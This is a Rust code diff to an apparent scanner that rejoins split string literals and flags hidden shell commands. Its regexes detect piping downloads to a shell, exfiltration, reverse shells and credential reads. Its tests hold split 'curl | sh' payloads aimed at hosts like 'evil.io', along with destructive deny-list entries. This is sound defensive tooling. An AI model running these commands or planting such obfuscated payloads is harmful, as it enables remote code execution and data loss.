@@ -216,54 +216,70 @@ fn rot13(text: &str) -> Option<String> {
 }
 
 /// Short string literals in a row that code joins (`["cu", "rl -s", ...]`,
-/// `"ev" + "al"`, `'a' .. 'b'`), put back together; `None` if there are
-/// none. A run counts when it has [`MIN_FRAGMENTS`] pieces, a word is
-/// cut between two of them, and a piece carries the space between two
-/// words at its edge: a list of names, flags or phrases has neither.
+/// `"ev" + "al"`, `'a' .. 'b'`, `"a" "b"`), put back together; `None` if
+/// there are none. A run counts only when a command ([`is_command`])
+/// appears in it that no piece holds alone, across a word cut in two
+/// or across [`MIN_ACROSS`] pieces: a list of words, phrases or whole
+/// commands (a deny list, `["bash", "-c", "..."]`) is not a split
+/// string.
 fn fragments(text: &str) -> Option<String> {
     static PIECES: OnceLock<Option<Regex>> = OnceLock::new();
     let pieces = PIECES
-        .get_or_init(|| Regex::new(r#""([^"\\\n]{1,24})"|'([^'\\\n]{1,24})'"#).ok())
+        .get_or_init(|| Regex::new(r#""([^"\\\n]{1,64})"|'([^'\\\n]{1,64})'"#).ok())
         .as_ref()?;
     let mut out = String::new();
     let mut run: Vec<&str> = Vec::new();
-    let mut cut = false;
     let mut end = 0;
-    let flush = |run: &mut Vec<&str>, cut: &mut bool, out: &mut String| {
-        let spaced = run
-            .iter()
-            .any(|piece| piece.starts_with(' ') || piece.ends_with(' '));
-        if run.len() >= MIN_FRAGMENTS && *cut && spaced {
-            out.push_str(&run.concat());
-            out.push('\n');
-        }
-        run.clear();
-        *cut = false;
-    };
     for found in pieces.captures_iter(text) {
         let (Some(whole), Some(piece)) = (found.get(0), found.get(1).or_else(|| found.get(2)))
         else {
             continue;
         };
         let gap = text[end..whole.start()].trim();
-        let joined = matches!(gap, "," | "+" | "." | ".." | "&" | "||");
-        if !joined || run.is_empty() {
-            flush(&mut run, &mut cut, &mut out);
-        } else if let (Some(last), Some(first)) = (
-            run.last().and_then(|last| last.chars().last()),
-            piece.as_str().chars().next(),
-        ) {
-            cut |= last.is_alphanumeric() && first.is_alphanumeric();
+        if !matches!(gap, "" | "," | "+" | "." | ".." | "&" | "||") || run.is_empty() {
+            split_command(&run, &mut out);
+            run.clear();
         }
         run.push(piece.as_str());
         end = whole.end();
     }
-    flush(&mut run, &mut cut, &mut out);
+    split_command(&run, &mut out);
     (!out.is_empty()).then_some(out)
 }
 
-/// Pieces in a row that make a split string.
-const MIN_FRAGMENTS: usize = 4;
+/// Pieces a command must span, when no word is cut between two of them.
+const MIN_ACROSS: usize = 4;
+
+/// Adds `run` joined to `out` when a command spans its pieces.
+fn split_command(run: &[&str], out: &mut String) {
+    if run.len() < 2 {
+        return;
+    }
+    let joined = run.concat();
+    let mut junctions = Vec::with_capacity(run.len());
+    let mut at = 0;
+    for piece in &run[..run.len() - 1] {
+        at += piece.len();
+        junctions.push(at);
+    }
+    let cut = |at: usize| {
+        let before = joined[..at].chars().next_back();
+        let after = joined[at..].chars().next();
+        before.is_some_and(char::is_alphanumeric) && after.is_some_and(char::is_alphanumeric)
+    };
+    let split = command_spans(&joined).into_iter().any(|span| {
+        let inside: Vec<usize> = junctions
+            .iter()
+            .copied()
+            .filter(|at| span.start < *at && *at < span.end)
+            .collect();
+        inside.iter().any(|at| cut(*at)) || inside.len() + 1 >= MIN_ACROSS
+    });
+    if split {
+        out.push_str(&joined);
+        out.push('\n');
+    }
+}
 
 /// The lines of `text` written in leetspeak ("r34d1ng th1s") or with
 /// their letters spaced apart ("c u r l"), spelled back; `None` if there
@@ -471,25 +487,46 @@ pub fn is_command(decoded: &str) -> bool {
     static COMMANDS: OnceLock<Option<RegexSet>> = OnceLock::new();
     COMMANDS
         .get_or_init(|| {
-            RegexSetBuilder::new([
-                r"\b(?:curl|wget|iwr|invoke-webrequest)\b[^\n]{0,200}\|\s*(?:sudo\s+)?(?:ba|z|da|k)?sh\b",
-                r"\b(?:ba|z)?sh\s+(?:-c\s+)?[\x22']?\$?\(\s*(?:curl|wget)\b",
-                r"\b(?:curl|wget)\b[^\n]{0,200}(?:\s-d\s*@|--data(?:-binary)?\s*@|--upload-file\s|\s-T\s|\s-F\s*\w+=@|--post-file)",
-                r"\|\s*(?:curl|wget|nc|ncat|netcat)\b",
-                r"\brm\s+-(?:rf|fr|r)\s",
-                r"\b(?:os\.system|os\.popen|subprocess\.(?:run|call|popen|check_output)|child_process|execsync|runtime\.getruntime|invoke-expression|iex)\b",
-                r"\bkubectl\s+delete\b|\bdrop\s+(?:table|database|schema)\b|\bterraform\s+destroy\b",
-                r"\bchmod\s+(?:-r\s+)?0?777\b|/etc/(?:sudoers|shadow)\b|\bnopasswd\b",
-                r"(?:\b(?:ba|z)?sh\s+-i\s+)?>&?\s*/dev/tcp/|\bnc\s+-[ec]\b",
-                r"\b(?:cat|type|get-content)\s+[^\n|]{0,80}(?:\.env\b|id_rsa|id_ed25519|\.ssh/|\.aws/|credentials)",
-            ])
-            .case_insensitive(true)
-            .build()
-            .ok()
+            RegexSetBuilder::new(COMMANDS_PATTERNS)
+                .case_insensitive(true)
+                .build()
+                .ok()
         })
         .as_ref()
         .is_some_and(|set| set.is_match(decoded))
 }
+
+/// Where in `text` each command [`is_command`] knows stands.
+fn command_spans(text: &str) -> Vec<std::ops::Range<usize>> {
+    static EACH: OnceLock<Vec<Regex>> = OnceLock::new();
+    EACH.get_or_init(|| {
+        COMMANDS_PATTERNS
+            .iter()
+            .filter_map(|pattern| {
+                regex::RegexBuilder::new(pattern)
+                    .case_insensitive(true)
+                    .build()
+                    .ok()
+            })
+            .collect()
+    })
+    .iter()
+    .flat_map(|regex| regex.find_iter(text).map(|found| found.range()))
+    .collect()
+}
+
+const COMMANDS_PATTERNS: [&str; 10] = [
+    r"\b(?:curl|wget|iwr|invoke-webrequest)\b[^\n]{0,200}\|\s*(?:sudo\s+)?(?:ba|z|da|k)?sh\b",
+    r"\b(?:ba|z)?sh\s+(?:-c\s+)?[\x22']?\$?\(\s*(?:curl|wget)\b",
+    r"\b(?:curl|wget)\b[^\n]{0,200}(?:\s-d\s*@|--data(?:-binary)?\s*@|--upload-file\s|\s-T\s|\s-F\s*\w+=@|--post-file)",
+    r"\|\s*(?:curl|wget|nc|ncat|netcat)\b",
+    r"\brm\s+-(?:rf|fr|r)\s",
+    r"\b(?:os\.system|os\.popen|subprocess\.(?:run|call|popen|check_output)|child_process|execsync|runtime\.getruntime|invoke-expression|iex)\b",
+    r"\bkubectl\s+delete\b|\bdrop\s+(?:table|database|schema)\b|\bterraform\s+destroy\b",
+    r"\bchmod\s+(?:-r\s+)?0?777\b|/etc/(?:sudoers|shadow)\b|\bnopasswd\b",
+    r"(?:\b(?:ba|z)?sh\s+-i\s+)?>&?\s*/dev/tcp/|\bnc\s+-[ec]\b",
+    r"\b(?:cat|type|get-content)\s+[^\n|]{0,80}(?:\.env\b|id_rsa|id_ed25519|\.ssh/|\.aws/|credentials)",
+];
 
 #[cfg(test)]
 mod tests {
@@ -628,26 +665,36 @@ mod tests {
     }
 
     #[test]
-    fn split_strings_are_joined_when_a_word_is_cut() {
+    fn split_strings_are_joined_when_a_command_spans_them() {
         let code = r#"_P = ["cu", "rl -s", " https://", "maint-", "jobs.sa", "/run", " | s", "h"]"#;
         let found = decoded(code);
         assert_eq!(found[0].0, Encoding::Fragments);
         assert!(is_command(&found[0].1), "{found:?}");
-        assert!(
-            decoded(r#"cmd = 'cu' + 'rl ' + 'x.io/a' + ' | sh'"#)[0]
-                .1
-                .contains("curl x.io/a | sh")
-        );
-        // Whole words in a list are no split string, nor three pieces.
-        assert_eq!(
-            decoded(r#"langs = ["en", "fr", "de", "es", "it"]"#),
-            Vec::new()
-        );
-        assert_eq!(
-            decoded(r#"tips = ["run it", "then test", "and ship", "or wait"]"#),
-            Vec::new()
-        );
-        assert_eq!(decoded(r#"x = "cu" + "rl" + " | sh""#), Vec::new());
+        for code in [
+            r#"cmd = 'cu' + 'rl ' + 'x.io/a' + ' | sh'"#,
+            // No word cut, but the command spans four pieces.
+            r#"p = ["curl ", "-s ", "https:", "//maint-", "jobs.", "sa/", "run ", "| ", "sh"]"#,
+            // Implicit concatenation, a long piece, three pieces.
+            r#"c = ("cu" "rl -s https://long-domain-name.example.com/install.sh" " | sh")"#,
+            r#"p = ["cu", "rl -s htt", "ps://evil.io/", "x | sh"]"#,
+        ] {
+            let found = decoded(code);
+            assert!(
+                found.first().is_some_and(|(_, run)| is_command(run)),
+                "{code}: {found:?}"
+            );
+        }
+        // Whole words, phrases, whole commands, argument lists.
+        for code in [
+            r#"langs = ["en", "fr", "de", "es", "it"]"#,
+            r#"tips = ["run it", "then test", "and ship", "or wait"]"#,
+            r#"DENY = ["rm -rf /", "mkfs", "dd if=/dev/zero", "chmod 777 ", "shutdown -h now"]"#,
+            r#"SIGNATURES = ["curl ", "wget ", "| sh", "| bash", "base64 -d", "nc -e"]"#,
+            r#"{"shell": ["bash", "-c", "set -e; ", "curl -s https://x.io/a | sh"]}"#,
+            r#"x = "curl -fsSL https://get.docker.com " "| sh""#,
+        ] {
+            assert_eq!(decoded(code), Vec::new(), "{code}");
+        }
     }
 
     #[test]
